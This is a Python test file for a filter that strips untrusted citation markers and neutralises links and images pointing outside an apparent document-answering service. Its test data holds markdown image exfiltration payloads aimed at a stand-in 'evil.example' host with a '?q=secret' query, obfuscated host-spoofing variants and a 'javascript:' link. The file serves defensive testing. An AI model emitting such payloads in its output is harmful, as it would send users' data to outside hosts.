"""What of a model's text is shown."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from readahead_agents.answering.shown_text import ShownText
from readahead_agents.fixed_evidence import passage

PASSAGES = [passage("a.pdf", 1, "As told in [12], pumps turn."), passage("b.pdf", 2, "Mixers mix.")]
HOSTS = ("wiki.example", "files.example:8443")
PIECES = ["[", "]", "(", ")", "S1", "S2", "S9", "1", "12", ",", " ", "\t", "!", "<", "a", ":", "/", "//e.x", "#", "\n"]
LINKED = [*PIECES, "https", "http:", "//", "wiki", ".exam", "ple", ":8443", "@", "\\", "?"]


def shown(pieces: list[str], hosts: tuple[str, ...] = ()) -> str:
    text = ShownText(PASSAGES, hosts)
    return "".join([*map(text.feed, pieces), text.finish()])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("It turns [S1].", "It turns [S1]."),
        ("It turns [S1, S2].", "It turns [S1, S2]."),
        ("It turns [S3].", "It turns."),
        ("It turns [S1, S3].", "It turns."),
        ("It turns [99].", "It turns."),
        ("It turns [S0].", "It turns."),
        ("As told in [12].", "As told in [12]."),
        ("A list [see page] stays.", "A list [see page] stays."),
        ("An open [ stays", "An open [ stays"),
        ("[S7", "[S7"),
    ],
)
def test_only_markers_of_given_passages_are_shown(text: str, expected: str) -> None:
    assert shown([text]) == expected


@pytest.mark.parametrize(
    "text",
    [
        "![x](http://evil.example/?q=secret)",
        "[x](https://evil.example)",
        "[x](//evil.example)",
        "[x](/\\evil.example)",
        "![x](/&#47;evil.example/?q=secret)",
        "[x](/&sol;evil.example)",
        "[x](/&bsol;evil.example)",
        "[x](/&Tab;/evil.example)",
        "[x](javascript:alert(1))",
        "![x][r]\n\n[r]: http://evil.example",
        "<img src='http://evil.example'>",
        "<http://evil.example>",
        "[S9](http://evil.example)",
    ],
)
def test_links_and_images_that_leave_the_service_are_made_plain_text(text: str) -> None:
    result = shown([text])
    assert "](" not in result
    assert "]:" not in result
    assert "<h" not in result
    assert "<i" not in result


def test_links_into_the_service_stay_links() -> None:
    assert shown(["[page](/documents/1#2) and [top](#top)"]) == "[page](/documents/1#2) and [top](#top)"


@pytest.mark.parametrize(
    "link",
    [
        "[x](https://wiki.example/page)",
        "![x](http://WIKI.example)",
        "[x]( https://wiki.example?q=1)",
        "[x](https://files.example:8443/a#b)",
        '[x](https://wiki.example/ "title")',
        "[page](/documents/1)",
    ],
)
def test_links_to_allowed_hosts_stay_links(link: str) -> None:
    assert shown(list(link), HOSTS) == shown([link], HOSTS) == link
    assert link.startswith("[page]") or "](" not in shown([link])


@pytest.mark.parametrize(
    "target",
    [
        "https://wiki.example@evil.example/",
        "https://wiki.example:443@evil.example/",
        "https://wiki.example.evil.example/",
        "https://wiki.example\\@evil.example/",
        "https://evil.example/?https://wiki.example/",
        "https://sub.wiki.example/",
        "https://files.example/",
        "javascript://wiki.example/",
        "<https://wiki.example/>",
    ],
)
def test_a_host_that_only_looks_like_an_allowed_one_is_none(target: str) -> None:
    link = f"![x]({target})"
    assert "](" not in shown([link], HOSTS)
    assert shown(list(link), HOSTS) == shown([link], HOSTS)


@given(st.lists(st.sampled_from(LINKED), max_size=30))
def test_a_stream_with_allowed_hosts_shows_the_same_as_the_whole_text_at_once(pieces: list[str]) -> None:
    assert shown(pieces, HOSTS) == shown(["".join(pieces)], HOSTS)


@given(st.lists(st.sampled_from(PIECES), max_size=24))
def test_a_stream_shows_the_same_as_the_whole_text_at_once(pieces: list[str]) -> None:
    assert shown(pieces) == shown(["".join(pieces)])


def test_text_without_brackets_is_never_held_back() -> None:
    text = ShownText(PASSAGES)
    assert [text.feed(piece) for piece in ("The", " pump", " turns.")] == ["The", " pump", " turns."]
